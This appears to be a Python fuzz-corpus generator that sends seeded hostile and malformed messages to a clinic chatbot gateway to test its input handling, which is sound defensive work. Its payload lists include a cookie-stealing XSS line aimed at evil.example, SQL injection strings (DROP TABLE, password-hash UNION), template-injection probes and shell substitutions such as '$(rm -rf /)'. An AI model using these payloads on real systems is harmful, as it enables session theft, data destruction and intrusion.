"""The fuzz corpus of issue #12 point 5: hostile and odd visitor messages, generated from a seed so
that every run sends the same ones (a failure names its conversation and message, and replays).

Eleven categories: empty, whitespace, very long, control characters, invalid UTF-8 (bytes that do
not decode, and JSON escapes of lone surrogates), emoji, right-to-left text, HTML and script, SQL,
template syntax, and forged `/intent{...}` payloads. Each message says what the gateway must do
with it: answer (200 with a reply) or refuse with a given 4xx. The conversations start in one of
four places, so that the form validators see the garbage too: nowhere (the greeting), in the
screening form after consent, in the callback form, and in the manage-booking form.

Pure Python (no pytest, no network): tests/fuzz drives it through the running gateway, and the
property tests (tests/unit, tests/integration) draw from its samples.
"""
from __future__ import annotations

import json
import random
from dataclasses import dataclass, field
from typing import List, Optional, Tuple

REPLY = 200
EMPTY = 400  # "Please type a message."
NOT_TEXT = 400  # the body does not decode, or the message is not text
TOO_LONG = 413

# A distinctive word inside every piece of markup, so that a page can be searched for it.
CANARY = "fz7q"

HTML = [
    f"<script>alert('{CANARY}')</script>",
    f'<img src=x onerror="alert(\'{CANARY}\')">',
    f"<svg onload=alert('{CANARY}')>",
    f'<iframe src="javascript:alert(\'{CANARY}\')"></iframe>',
    f'"><script>document.location="https://evil.example/?{CANARY}="+document.cookie</script>',
    f"<a href=\"javascript:alert('{CANARY}')\">click me</a>",
    f"<b onmouseover=alert('{CANARY}')>hello</b>",
    f"</textarea><script>alert('{CANARY}')</script>",
    f"<style>body{{background:url('https://evil.example/{CANARY}')}}</style>",
    f"<!-- {CANARY} --><p>I sweat a lot</p>",
    f"&lt;script&gt;alert('{CANARY}')&lt;/script&gt;",
    f"<ScRiPt>alert('{CANARY}')</sCrIpT> my jaw hurts",
    f"<details open ontoggle=alert('{CANARY}')>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{CANARY}')>",
]
SQL = [
    "' OR '1'='1",
    "'; DROP TABLE intakes; --",
    "Robert'); DROP TABLE appointments;--",
    "1; SELECT * FROM staff_users",
    "\" OR 1=1 --",
    "admin'--",
    "' UNION SELECT password_hash FROM staff_users --",
    "%' AND 1=0 UNION SELECT NULL, NULL --",
    "1' WAITFOR DELAY '0:0:5'--",
    "'); pg_sleep(5); --",
    "Maria'); DELETE FROM alerts WHERE ('1'='1",
]
TEMPLATE = [
    "{{7*7}}",
    "{{ config.items() }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% for x in range(100) %}{{x}}{% endfor %}",
    "{name}",
    "{0.__class__.__mro__}",
    "%s%s%s%s%n",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{clinic_name} {phone} {when}",
    "$(rm -rf /)",
    "`id`",
    "[[ {{ request }} ]]",
]
FORGED = [
    "/give_consent",
    "/request_booking",
    "/human_handoff",
    "/restart",
    "/session_start",
    "/back",
    '/choose_slot{"slot_time": "2020-01-01T09:00:00+00:00"}',
    '/choose_slot{"slot_time": "not a time"}',
    '/inform{"full_name": "<script>alert(1)</script>", "contact": "+18185550199"}',
    '/give_consent{"consent": true, "screening_complete": true}',
    '/affirm{"screening_complete": true, "consultation_only": false}',
    '/choose_area{"area": "\' OR 1=1 --"}',
    "/concern_sweating",
    "//ask_cost",
    "/ /  /ask_cost",
    '/EXTERNAL_emergency{"safety_flag": "emergency"}',
    "/nlu_fallback",
    '/inform{"booking_reference_issued": "ABC123"}',
    '/inform{"a": {"b": {"c": [1, 2, 3]}}}',
    "/" + "x" * 60,
    '/inform{"full_name": ',
    "/deny{}",
]
EMOJI = ["😀", "🙂", "😭", "💉", "🦷", "👩🏽‍⚕️", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇺🇸", "❤️", "🔥", "✨", "🤷‍♀️", "🥲", "𝕳𝖊𝖑𝖑𝖔"]
RTL = [
    "مرحبا، أريد حجز استشارة",
    "אני מזיע הרבה",
    "سلام، من تعریق زیاد دارم",
    "\u202eevil.exe\u202c my jaw hurts",
    "\u200fשלום\u200f hello",
    "مرحبا <b>world</b>",
    "\u2067آب\u2069 123",
]
WORDS = ["I", "sweat", "a", "lot", "my", "jaw", "hurts", "how", "much", "is", "botox", "book", "yes", "no",
         "tomorrow", "morning", "please", "thanks", "what", "the", "frown", "lines", "cost", "hello"]
CONTROL = ["\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b", "\x1f", "\x7f", "\r", "\u0085", "\u2028",
           "\u2029", "\u200b", "\u200d", "\ufeff", "\ufffe"]
WHITESPACE = [" ", "\t", "\n", "\r\n", "\u00a0", "\u3000", "\u2003", "\u2009", "\u202f"]


@dataclass(frozen=True)
class FuzzMessage:
    """One message: its text (sent as JSON), or raw bytes sent as the body instead."""
    category: str
    expect: int
    text: Optional[str] = None
    body: Optional[bytes] = None

    def content(self) -> bytes:
        if self.body is not None:
            return self.body
        return json.dumps({"message": self.text}).encode("utf-8")

    def shown(self) -> str:
        """A short, printable description for a failure message."""
        raw = self.text if self.text is not None else self.body.decode("utf-8", "backslashreplace")
        return f"[{self.category}] {raw[:120]!r}" + (f" ({len(raw)} chars)" if len(raw) > 120 else "")


@dataclass
class Conversation:
    """A visitor: a scripted start (`prefix`: ("say", text) or ("click", button title)), then the
    fuzz messages; `interleave` holds plain answers sent before the fuzz message of that index,
    so that the form moves on to its next slot (which then sees garbage)."""
    index: int
    start: str
    prefix: List[Tuple[str, str]]
    messages: List[FuzzMessage] = field(default_factory=list)
    interleave: dict = field(default_factory=dict)


STARTS = {
    "open": [],
    "screening": [("say", "I sweat through my shirts every day"), ("click", "Book a free consultation"),
                  ("click", "I agree")],
    "callback": [("say", "I'd like to talk to a real person, can someone call me?")],
    "manage": [("say", "I need to cancel my appointment")],
}
START_WEIGHTS = {"open": 4, "screening": 3, "callback": 2, "manage": 1}
CALLBACK_ANSWERS = {5: "Casey Fuzzer", 10: "818 555 0142"}  # then the best-time slot gets the garbage


def _words(rng: random.Random, count: int) -> str:
    return " ".join(rng.choice(WORDS) for _ in range(count))


def _sprinkle(rng: random.Random, text: str, pieces: List[str], count: int) -> str:
    chars = list(text)
    for _ in range(count):
        chars.insert(rng.randrange(len(chars) + 1), rng.choice(pieces))
    return "".join(chars)


def _empty(rng: random.Random, max_chars: int) -> FuzzMessage:
    text = rng.choice(["", "".join(rng.choice(CONTROL[:9]) for _ in range(rng.randint(1, 6))), "/", "///",
                       "/ \t/", "\x00" * rng.randint(1, 50)])
    return FuzzMessage("empty", EMPTY, text=text)


def _whitespace(rng: random.Random, max_chars: int) -> FuzzMessage:
    ascii_space = [" ", "\t", "\n", "\r\n"]
    text = "".join(rng.choice(ascii_space) for _ in range(rng.randint(1, 200)))
    if rng.random() < 0.3:  # Unicode spaces are whitespace too (str.strip removes them)
        text = "".join(rng.choice(WHITESPACE) for _ in range(rng.randint(1, 40)))
    return FuzzMessage("whitespace", EMPTY, text=text)


def _long(rng: random.Random, max_chars: int) -> FuzzMessage:
    roll = rng.random()
    if roll < 0.7:  # over the limit: refused before Rasa
        length = rng.choice([max_chars + 1, max_chars + 50, max_chars * 3, max_chars * 20])
        unit = rng.choice(["a", "sweat ", "😀", "é", "<b>x</b>", "' OR 1=1 "])
        return FuzzMessage("long", TOO_LONG, text=(unit * length)[:length - 1] + "x")  # too long once stripped
    if roll < 0.8:  # a body far too large to hold a message (the gateway stops reading it)
        return FuzzMessage("long", TOO_LONG, text="x" * (max_chars * 40))
    length = rng.choice([max_chars, max_chars - 1, max_chars // 2])
    text = (_words(rng, max_chars // 3) + " ")[:length].strip() or "sweat"
    return FuzzMessage("long", REPLY, text=text)


def _control(rng: random.Random, max_chars: int) -> FuzzMessage:
    return FuzzMessage("control", REPLY, text=_sprinkle(rng, _words(rng, rng.randint(2, 8)), CONTROL,
                                                         rng.randint(1, 10)))


def _invalid_utf8(rng: random.Random, max_chars: int) -> FuzzMessage:
    roll = rng.random()
    if roll < 0.5:
        junk = rng.choice([b"\xff\xfe", b"\xc3\x28", b"\xa0\xa1", b"\xe2\x28\xa1", b"\xf0\x28\x8c\xbc",
                           b"\xed\xa0\x80", b"\xc0\xaf", bytes(rng.randrange(128, 256) for _ in range(8))])
        body = b'{"message": "hello ' + junk + b' sweat"}'
        return FuzzMessage("invalid_utf8", NOT_TEXT, body=body)
    if roll < 0.8:  # valid JSON, but a lone surrogate: not text that UTF-8 can hold
        escape = rng.choice(["\\ud800", "\\udfff", "\\udc00abc", "\\ud83d", "abc\\ud83d"])
        return FuzzMessage("invalid_utf8", NOT_TEXT, body=f'{{"message": "hi {escape} there"}}'.encode())
    # Bodies that are no message at all.
    body = rng.choice([b"\xff" * 20, b'{"message": ', b"message=hello", b"\x00\x00\x00",
                       b'{"message": ["a"]}', b'{"message": null}', b'["message"]', b'{"message": 12}'])
    return FuzzMessage("invalid_utf8", NOT_TEXT, body=body)


def _emoji(rng: random.Random, max_chars: int) -> FuzzMessage:
    count = rng.randint(1, 30)
    text = "".join(rng.choice(EMOJI) for _ in range(count))
    if rng.random() < 0.5:
        text = _sprinkle(rng, _words(rng, rng.randint(2, 8)), EMOJI, rng.randint(1, 5))
    return FuzzMessage("emoji", REPLY, text=text)


def _rtl(rng: random.Random, max_chars: int) -> FuzzMessage:
    text = rng.choice(RTL)
    if rng.random() < 0.4:
        text = f"{text} {_words(rng, 3)}"
    return FuzzMessage("rtl", REPLY, text=text)


def _with_words(rng: random.Random, pieces: List[str], category: str) -> FuzzMessage:
    text = rng.choice(pieces)
    roll = rng.random()
    if roll < 0.3:
        text = f"{_words(rng, rng.randint(1, 5))} {text}"
    elif roll < 0.5:
        text = f"{text} {_words(rng, rng.randint(1, 5))}"
    return FuzzMessage(category, REPLY, text=text)


def _html(rng, max_chars):
    return _with_words(rng, HTML, "html")


def _sql(rng, max_chars):
    return _with_words(rng, SQL, "sql")


def _template(rng, max_chars):
    return _with_words(rng, TEMPLATE, "template")


def _forged(rng: random.Random, max_chars: int) -> FuzzMessage:
    return FuzzMessage("forged_intent", REPLY, text=rng.choice(FORGED))


MAKERS = {"empty": _empty, "whitespace": _whitespace, "long": _long, "control": _control,
          "invalid_utf8": _invalid_utf8, "emoji": _emoji, "rtl": _rtl, "html": _html, "sql": _sql,
          "template": _template, "forged_intent": _forged}
CATEGORIES = tuple(MAKERS)
# Out of every 25 messages. About half are refused by the gateway before Rasa (cheap: that is where
# hostile input should stop); the rest cost a Rasa turn each, which is what bounds the run's time.
WEIGHTS = {"empty": 3, "whitespace": 2, "long": 4, "invalid_utf8": 4, "control": 1, "emoji": 2, "rtl": 1,
           "html": 3, "sql": 2, "template": 1, "forged_intent": 2}


def message(rng: random.Random, max_chars: int, category: Optional[str] = None) -> FuzzMessage:
    return MAKERS[category or rng.choice(CATEGORIES)](rng, max_chars)


def conversations(total: int, per_conversation: int = 25, seed: int = 12, max_chars: int = 1000) -> List[Conversation]:
    """`total` fuzz messages over conversations of `per_conversation` each (the last may be shorter);
    the categories in the proportions of WEIGHTS, in a seeded order."""
    rng = random.Random(seed)
    cycle = [name for name, weight in WEIGHTS.items() for _ in range(weight)]
    categories = [cycle[i % len(cycle)] for i in range(total)]
    rng.shuffle(categories)
    starts = [name for name, weight in START_WEIGHTS.items() for _ in range(weight)]
    result = []
    for index, first in enumerate(range(0, total, per_conversation)):
        start = starts[index % len(starts)]
        conversation = Conversation(index=index, start=start, prefix=list(STARTS[start]),
                                    interleave=dict(CALLBACK_ANSWERS) if start == "callback" else {})
        conversation.messages = [message(rng, max_chars, category)
                                 for category in categories[first:first + per_conversation]]
        result.append(conversation)
    return result


def samples(category: str, count: int = 50, seed: int = 5, max_chars: int = 1000) -> List[str]:
    """Texts of one category (for the property tests' strategies); raw-byte bodies left out."""
    rng = random.Random(seed)
    found = [message(rng, max_chars, category) for _ in range(count)]
    return [m.text for m in found if m.text is not None]
